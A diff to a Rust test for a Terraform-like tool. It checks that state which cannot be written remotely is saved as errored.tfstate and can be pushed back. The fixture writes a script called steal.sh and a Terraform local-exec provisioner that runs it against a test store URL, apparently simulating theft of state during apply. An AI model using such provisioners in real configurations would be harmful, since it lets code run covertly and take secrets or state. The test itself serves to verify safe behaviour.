@@ -216,7 +216,8 @@ fn what_cannot_be_written_there_is_written_here() {
     sandbox.write("steal.sh", STEAL).unwrap();
     let steal = format!(
         "resource \"terraform_data\" \"b\" {{\n  provisioner \"local-exec\" {{\n    command = \"sh steal.sh {}\"\n  }}\n}}\n\n\
-         resource \"terraform_data\" \"c\" {{\n  depends_on = [terraform_data.b]\n}}\n",
+         resource \"terraform_data\" \"c\" {{\n  depends_on = [terraform_data.b]\n  provisioner \"local-exec\" {{\n    \
+         command = \"true\"\n  }}\n}}\n\nresource \"terraform_data\" \"d\" {{\n  depends_on = [terraform_data.c]\n}}\n",
         store.url("s")
     );
     sandbox.write("b.tf", &steal).unwrap();
@@ -235,7 +236,10 @@ fn what_cannot_be_written_there_is_written_here() {
     assert!(kept.contains("\"name\": \"b\""), "{kept}");
     std::fs::remove_file(sandbox.dir().join("b.tf")).unwrap();
     run(&sandbox, &["state", "push", "errored.tfstate"], 0);
-    assert_eq!(run(&sandbox, &["state", "list"], 0), "terraform_data.a\nterraform_data.b\n");
+    assert_eq!(
+        run(&sandbox, &["state", "list"], 0),
+        "terraform_data.a\nterraform_data.b\nterraform_data.c\n"
+    );
 }
 
 #[test]
